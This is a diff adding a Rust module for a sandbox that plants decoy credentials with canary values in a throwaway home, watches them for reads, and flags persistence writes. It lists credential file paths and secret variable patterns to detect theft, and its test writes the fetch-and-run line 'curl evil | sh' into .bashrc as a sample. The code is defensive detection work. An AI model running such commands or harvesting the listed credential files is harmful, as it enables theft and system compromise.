@@ -1,0 +1,534 @@
+//! The throwaway HOME, populated with realistic decoy credentials carrying per-run canary values,
+//! watched with inotify (kernel truth, no TOCTOU; it sees opens made through a bind mount in
+//! another mount namespace), and compared after the run to find persistence writes.
+//!
+//! The directory lives on the host (a private temp dir) and is bind-mounted at the caller's real
+//! HOME path inside the sandbox; it is deleted after the run, so nothing written there reaches
+//! the real home.
+
+use std::collections::{BTreeMap, HashMap};
+use std::io::{self, Read};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+
+use nix::sys::inotify::{AddWatchFlags, InitFlags, Inotify, WatchDescriptor};
+use serde::{Deserialize, Serialize};
+
+use super::{Finding, FindingKind, Severity};
+
+/// A canary: a unique fake secret planted for one run.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Canary {
+    /// Stable id (`npmrc-token`, `env:NPM_TOKEN`, ...).
+    pub id: String,
+    /// The value. Fake by construction; safe to print and to match in payloads.
+    pub value: String,
+}
+
+fn random_hex(bytes: usize) -> String {
+    let mut buf = vec![0u8; bytes];
+    if std::fs::File::open("/dev/urandom")
+        .and_then(|mut f| f.read_exact(&mut buf))
+        .is_err()
+    {
+        // Never fatal: fall back to time and pid entropy (still unique per run).
+        let t = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map(|d| d.as_nanos())
+            .unwrap_or(0);
+        let seed = t.to_le_bytes();
+        let pid = std::process::id().to_le_bytes();
+        for (i, b) in buf.iter_mut().enumerate() {
+            *b = seed[i % seed.len()] ^ pid[i % pid.len()];
+        }
+    }
+    buf.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+fn alnum(hex: &str, len: usize) -> String {
+    // Map hex into the alphabet GitHub/npm tokens use, deterministic per canary.
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+    hex.as_bytes()
+        .chunks(2)
+        .cycle()
+        .take(len)
+        .enumerate()
+        .map(|(i, c)| {
+            let v = u8::from_str_radix(std::str::from_utf8(c).unwrap_or("0"), 16).unwrap_or(0);
+            A[(usize::from(v) + i * 7) % A.len()] as char
+        })
+        .collect()
+}
+
+/// Decoy files: (path relative to HOME, class used in findings).
+const SECRET_FILES: [(&str, &str); 12] = [
+    (".npmrc", "npm token"),
+    (".ssh/id_ed25519", "ssh private key"),
+    (".ssh/id_rsa", "ssh private key"),
+    (".aws/credentials", "cloud credentials"),
+    (".config/gh/hosts.yml", "github token"),
+    (".git-credentials", "git credentials"),
+    (".docker/config.json", "registry credentials"),
+    (".kube/config", "kubernetes credentials"),
+    (
+        ".config/gcloud/application_default_credentials.json",
+        "cloud credentials",
+    ),
+    (
+        ".ethereum/keystore/UTC--2025-01-01T00-00-00.000Z--decoy",
+        "crypto wallet",
+    ),
+    (".claude.json", "AI tool credentials"),
+    (".bash_history", "shell history"),
+];
+
+/// Paths whose creation or change is persistence (relative to HOME; a trailing `/` means any
+/// file below).
+const PERSISTENCE: [(&str, &str); 20] = [
+    (".bashrc", "shell rc"),
+    (".bash_profile", "shell rc"),
+    (".bash_login", "shell rc"),
+    (".profile", "shell rc"),
+    (".zshrc", "shell rc"),
+    (".zprofile", "shell rc"),
+    (".config/fish/", "shell rc"),
+    (".ssh/authorized_keys", "ssh authorized keys"),
+    (".gitconfig", "git config (hooks)"),
+    (".config/git/", "git config (hooks)"),
+    (".npmrc", "npm config"),
+    (".config/autostart/", "desktop autostart"),
+    (".config/systemd/", "systemd user unit"),
+    (".local/share/systemd/", "systemd user unit"),
+    (".claude/", "AI agent config"),
+    (".claude.json", "AI agent config"),
+    (".cursor/", "AI agent config"),
+    (".codeium/", "AI agent config"),
+    (".vscode/", "IDE auto-run config"),
+    (".config/Code/", "IDE auto-run config"),
+];
+
+/// Directories where a new executable file is a dropped binary or stage 2.
+const BIN_DIRS: [&str; 4] = [".local/bin/", ".bun/", ".cache/", ".config/"];
+
+/// A planted, watched throwaway HOME.
+#[derive(Debug)]
+pub struct DecoyHome {
+    dir: tempfile::TempDir,
+    /// The HOME path as the sandbox sees it.
+    home: PathBuf,
+    canaries: Vec<Canary>,
+    inotify: Option<Inotify>,
+    watches: HashMap<WatchDescriptor, &'static str>,
+    before: BTreeMap<String, Vec<u8>>,
+}
+
+/// Environment variables that hold credentials: never passed to scripts; canaries instead.
+pub fn is_secret_var(name: &str) -> bool {
+    let n = name.to_ascii_uppercase();
+    const EXACT: [&str; 14] = [
+        "NPM_TOKEN",
+        "NODE_AUTH_TOKEN",
+        "GITHUB_TOKEN",
+        "GH_TOKEN",
+        "GITLAB_TOKEN",
+        "CI_JOB_TOKEN",
+        "AWS_ACCESS_KEY_ID",
+        "AWS_SECRET_ACCESS_KEY",
+        "AWS_SESSION_TOKEN",
+        "GOOGLE_APPLICATION_CREDENTIALS",
+        "AZURE_CLIENT_SECRET",
+        "OPENAI_API_KEY",
+        "ANTHROPIC_API_KEY",
+        "SLACK_TOKEN",
+    ];
+    EXACT.contains(&n.as_str())
+        || n.starts_with("NPM_CONFIG__AUTH")
+        || n.starts_with("NPM_CONFIG_//")
+        || [
+            "_TOKEN",
+            "_SECRET",
+            "_PASSWORD",
+            "_API_KEY",
+            "_PRIVATE_KEY",
+            "_ACCESS_KEY",
+        ]
+        .iter()
+        .any(|s| n.ends_with(s))
+}
+
+impl DecoyHome {
+    /// Create and plant a decoy home for a sandbox whose HOME is `home`.
+    pub fn plant(home: &Path) -> io::Result<Self> {
+        let dir = tempfile::Builder::new()
+            .prefix("ringfence-home-")
+            .tempdir()?;
+        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700))?;
+        let mut canaries = Vec::new();
+        let mut canary = |id: &str, value: String| -> String {
+            canaries.push(Canary {
+                id: id.to_string(),
+                value: value.clone(),
+            });
+            value
+        };
+        let h = random_hex(24);
+        let npm = canary("npmrc-token", format!("npm_{}", alnum(&h, 36)));
+        let gh = canary(
+            "gh-hosts-token",
+            format!("gho_{}", alnum(&random_hex(24), 36)),
+        );
+        let git = canary(
+            "git-credentials",
+            format!("ghp_{}", alnum(&random_hex(24), 36)),
+        );
+        let aws_id = canary(
+            "aws-access-key-id",
+            format!("AKIA{}", alnum(&random_hex(16), 16).to_ascii_uppercase()),
+        );
+        let aws_secret = canary("aws-secret-access-key", alnum(&random_hex(32), 40));
+        let ssh = canary("ssh-key", alnum(&random_hex(32), 64));
+        let docker = canary("docker-auth", alnum(&random_hex(16), 24));
+        let kube = canary("kube-token", format!("eyJ{}", alnum(&random_hex(24), 40)));
+        let gcloud = canary(
+            "gcloud-refresh-token",
+            format!("1//{}", alnum(&random_hex(24), 40)),
+        );
+        let wallet = canary("wallet-ciphertext", random_hex(32));
+        let claude = canary(
+            "claude-api-key",
+            format!("sk-ant-api03-{}", alnum(&random_hex(24), 40)),
+        );
+        let history = canary(
+            "history-token",
+            format!("npm_{}", alnum(&random_hex(24), 36)),
+        );
+        let contents: [(&str, String); 12] = [
+            (
+                ".npmrc",
+                format!("//registry.npmjs.org/:_authToken={npm}\n"),
+            ),
+            (
+                ".ssh/id_ed25519",
+                format!(
+                    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ{ssh}\n-----END OPENSSH PRIVATE KEY-----\n"
+                ),
+            ),
+            (
+                ".ssh/id_rsa",
+                format!(
+                    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA{ssh}\n-----END RSA PRIVATE KEY-----\n"
+                ),
+            ),
+            (
+                ".aws/credentials",
+                format!(
+                    "[default]\naws_access_key_id = {aws_id}\naws_secret_access_key = {aws_secret}\n"
+                ),
+            ),
+            (
+                ".config/gh/hosts.yml",
+                format!(
+                    "github.com:\n    user: ringfence\n    oauth_token: {gh}\n    git_protocol: https\n"
+                ),
+            ),
+            (
+                ".git-credentials",
+                format!("https://ringfence:{git}@github.com\n"),
+            ),
+            (
+                ".docker/config.json",
+                format!(
+                    "{{\"auths\":{{\"https://index.docker.io/v1/\":{{\"auth\":\"{docker}\"}}}}}}\n"
+                ),
+            ),
+            (
+                ".kube/config",
+                format!(
+                    "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    token: {kube}\n"
+                ),
+            ),
+            (
+                ".config/gcloud/application_default_credentials.json",
+                format!(
+                    "{{\"type\":\"authorized_user\",\"client_id\":\"decoy.apps.googleusercontent.com\",\"refresh_token\":\"{gcloud}\"}}\n"
+                ),
+            ),
+            (
+                ".ethereum/keystore/UTC--2025-01-01T00-00-00.000Z--decoy",
+                format!(
+                    "{{\"version\":3,\"crypto\":{{\"ciphertext\":\"{wallet}\",\"cipher\":\"aes-128-ctr\"}}}}\n"
+                ),
+            ),
+            (
+                ".claude.json",
+                format!("{{\"primaryApiKey\":\"{claude}\"}}\n"),
+            ),
+            (
+                ".bash_history",
+                format!("ls\nexport NPM_TOKEN={history}\nnpm publish\n"),
+            ),
+        ];
+        for (rel, text) in &contents {
+            let p = dir.path().join(rel);
+            if let Some(parent) = p.parent() {
+                std::fs::create_dir_all(parent)?;
+            }
+            std::fs::write(&p, text)?;
+            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600))?;
+        }
+        // Snapshot first: reading the files after the watches exist would report ourselves.
+        let before = snapshot(dir.path());
+        // Watch every decoy for opens and reads. Best effort: without inotify the run goes on
+        // and the report simply has no secret-read evidence from this source.
+        let mut watches = HashMap::new();
+        let inotify = Inotify::init(InitFlags::IN_NONBLOCK | InitFlags::IN_CLOEXEC).ok();
+        if let Some(ino) = &inotify {
+            for (rel, _) in SECRET_FILES {
+                if let Ok(wd) = ino.add_watch(
+                    &dir.path().join(rel),
+                    AddWatchFlags::IN_OPEN | AddWatchFlags::IN_ACCESS,
+                ) {
+                    watches.insert(wd, rel);
+                }
+            }
+        }
+        Ok(DecoyHome {
+            dir,
+            home: home.to_path_buf(),
+            canaries,
+            inotify,
+            watches,
+            before,
+        })
+    }
+
+    /// The host directory to bind at HOME.
+    pub fn host_dir(&self) -> &Path {
+        self.dir.path()
+    }
+
+    /// Every canary planted for this run (files and environment).
+    pub fn canaries(&self) -> &[Canary] {
+        &self.canaries
+    }
+
+    /// Replace credential variables in `env` by canaries, and plant the well-known ones the
+    /// caller does not have, so that a script looking for tokens finds only decoys.
+    pub fn scrub_env(&mut self, env: &mut Vec<(String, String)>) {
+        let mut present: Vec<String> = Vec::new();
+        for (k, v) in env.iter_mut() {
+            if is_secret_var(k) {
+                let value = format!("rf_canary_{}", alnum(&random_hex(16), 32));
+                self.canaries.push(Canary {
+                    id: format!("env:{k}"),
+                    value: value.clone(),
+                });
+                *v = value;
+                present.push(k.clone());
+            }
+        }
+        for name in [
+            "NPM_TOKEN",
+            "GITHUB_TOKEN",
+            "AWS_ACCESS_KEY_ID",
+            "AWS_SECRET_ACCESS_KEY",
+        ] {
+            if !present.iter().any(|p| p == name) {
+                let value = match name {
+                    "NPM_TOKEN" => format!("npm_{}", alnum(&random_hex(24), 36)),
+                    "GITHUB_TOKEN" => format!("ghp_{}", alnum(&random_hex(24), 36)),
+                    "AWS_ACCESS_KEY_ID" => {
+                        format!("AKIA{}", alnum(&random_hex(16), 16).to_ascii_uppercase())
+                    }
+                    _ => alnum(&random_hex(32), 40),
+                };
+                self.canaries.push(Canary {
+                    id: format!("env:{name}"),
+                    value: value.clone(),
+                });
+                env.push((name.to_string(), value));
+            }
+        }
+    }
+
+    /// What the run did to the decoys: secret reads (inotify) and persistence writes (a
+    /// comparison of the home after the run with what was planted). Call once, after the run.
+    pub fn findings(&self) -> Vec<Finding> {
+        let mut out = Vec::new();
+        let mut seen: BTreeMap<&'static str, (bool, bool)> = BTreeMap::new();
+        if let Some(ino) = &self.inotify {
+            while let Ok(events) = ino.read_events() {
+                if events.is_empty() {
+                    break;
+                }
+                for e in events {
+                    if let Some(rel) = self.watches.get(&e.wd) {
+                        let entry = seen.entry(rel).or_default();
+                        if e.mask.contains(AddWatchFlags::IN_OPEN) {
+                            entry.0 = true;
+                        }
+                        if e.mask.contains(AddWatchFlags::IN_ACCESS) {
+                            entry.1 = true;
+                        }
+                    }
+                }
+            }
+        }
+        for (rel, (opened, read)) in seen {
+            let class = SECRET_FILES
+                .iter()
+                .find(|(p, _)| *p == rel)
+                .map_or("secret", |(_, c)| *c);
+            out.push(Finding {
+                kind: FindingKind::SecretRead,
+                severity: Severity::High,
+                summary: format!(
+                    "{} decoy {class} `~/{rel}`",
+                    if read {
+                        "read"
+                    } else if opened {
+                        "opened"
+                    } else {
+                        "touched"
+                    }
+                ),
+                target: self.home.join(rel).display().to_string(),
+                detail: Some(format!("{class}; the file held only per-run canary values")),
+            });
+        }
+        let after = snapshot(self.dir.path());
+        // Our own snapshot just read the decoys: drop those events.
+        if let Some(ino) = &self.inotify {
+            while ino.read_events().is_ok_and(|e| !e.is_empty()) {}
+        }
+        for (rel, content) in &after {
+            if self.before.get(rel) == Some(content) {
+                continue;
+            }
+            let created = !self.before.contains_key(rel);
+            let persistence = PERSISTENCE.iter().find(|(p, _)| {
+                if let Some(dir) = p.strip_suffix('/') {
+                    rel.starts_with(&format!("{dir}/"))
+                } else {
+                    rel == p
+                }
+            });
+            let executable = std::fs::metadata(self.dir.path().join(rel))
+                .map(|m| m.permissions().mode() & 0o111 != 0)
+                .unwrap_or(false);
+            if let Some((_, class)) = persistence {
+                out.push(Finding {
+                    kind: FindingKind::PersistenceAttempt,
+                    severity: Severity::High,
+                    summary: format!(
+                        "{} `~/{rel}` ({class})",
+                        if created { "created" } else { "modified" }
+                    ),
+                    target: self.home.join(rel).display().to_string(),
+                    detail: Some(format!(
+                        "written to the throwaway home; first bytes: {}",
+                        preview(content)
+                    )),
+                });
+            } else if executable && BIN_DIRS.iter().any(|d| rel.starts_with(d)) {
+                out.push(Finding {
+                    kind: FindingKind::PersistenceAttempt,
+                    severity: Severity::Medium,
+                    summary: format!("dropped an executable `~/{rel}`"),
+                    target: self.home.join(rel).display().to_string(),
+                    detail: Some(format!("{} bytes", content.len())),
+                });
+            }
+        }
+        out
+    }
+}
+
+fn preview(bytes: &[u8]) -> String {
+    let text = String::from_utf8_lossy(&bytes[..bytes.len().min(120)]);
+    text.replace('\n', "\\n")
+}
+
+/// Content of the files under `root` that could matter (persistence paths, bin dirs, decoys):
+/// small files only, so a script filling `~/.cache` costs nothing here.
+fn snapshot(root: &Path) -> BTreeMap<String, Vec<u8>> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![root.to_path_buf()];
+    let mut budget = 20_000usize;
+    while let Some(dir) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for e in entries.flatten() {
+            budget = budget.saturating_sub(1);
+            if budget == 0 {
+                return out;
+            }
+            let p = e.path();
+            let Ok(meta) = std::fs::symlink_metadata(&p) else {
+                continue;
+            };
+            let rel = p
+                .strip_prefix(root)
+                .map(|r| r.display().to_string())
+                .unwrap_or_default();
+            if meta.is_dir() {
+                if rel != ".npm" && rel != ".cache/node-gyp" {
+                    stack.push(p);
+                }
+            } else if meta.len() <= 1 << 20 {
+                let mut content = std::fs::read(&p).unwrap_or_default();
+                if meta.permissions().mode() & 0o111 != 0 {
+                    content.extend_from_slice(b"\0exec");
+                }
+                out.insert(rel, content);
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn decoys_hold_unique_canaries_and_reads_are_seen() {
+        let a = DecoyHome::plant(Path::new("/home/u")).unwrap();
+        let b = DecoyHome::plant(Path::new("/home/u")).unwrap();
+        assert_ne!(a.canaries()[0].value, b.canaries()[0].value);
+        let npmrc = std::fs::read_to_string(b.host_dir().join(".npmrc")).unwrap();
+        assert!(npmrc.contains(&b.canaries()[0].value));
+        let _ = std::fs::read(a.host_dir().join(".aws/credentials")).unwrap();
+        std::fs::write(a.host_dir().join(".bashrc"), "curl evil | sh\n").unwrap();
+        let f = a.findings();
+        assert!(
+            f.iter().any(
+                |x| x.kind == FindingKind::SecretRead && x.target == "/home/u/.aws/credentials"
+            ),
+            "{f:?}"
+        );
+        assert!(f.iter().any(|x| x.kind == FindingKind::PersistenceAttempt
+            && x.target == "/home/u/.bashrc"), "{f:?}");
+        assert_eq!(f.len(), 2, "only what was done: {f:?}");
+    }
+
+    #[test]
+    fn secret_variables_are_replaced_by_canaries() {
+        let mut d = DecoyHome::plant(Path::new("/h")).unwrap();
+        let mut env = vec![
+            ("NPM_TOKEN".to_string(), "npm_REALSECRET".to_string()),
+            ("MY_SERVICE_API_KEY".to_string(), "REAL2".to_string()),
+            ("PATH".to_string(), "/usr/bin".to_string()),
+        ];
+        d.scrub_env(&mut env);
+        assert!(!env.iter().any(|(_, v)| v.contains("REAL")), "{env:?}");
+        assert!(env.iter().any(|(k, _)| k == "GITHUB_TOKEN"));
+        assert!(env.contains(&("PATH".into(), "/usr/bin".into())));
+        assert!(
+            d.canaries()
+                .iter()
+                .any(|c| c.id == "env:MY_SERVICE_API_KEY")
+        );
+    }
+}
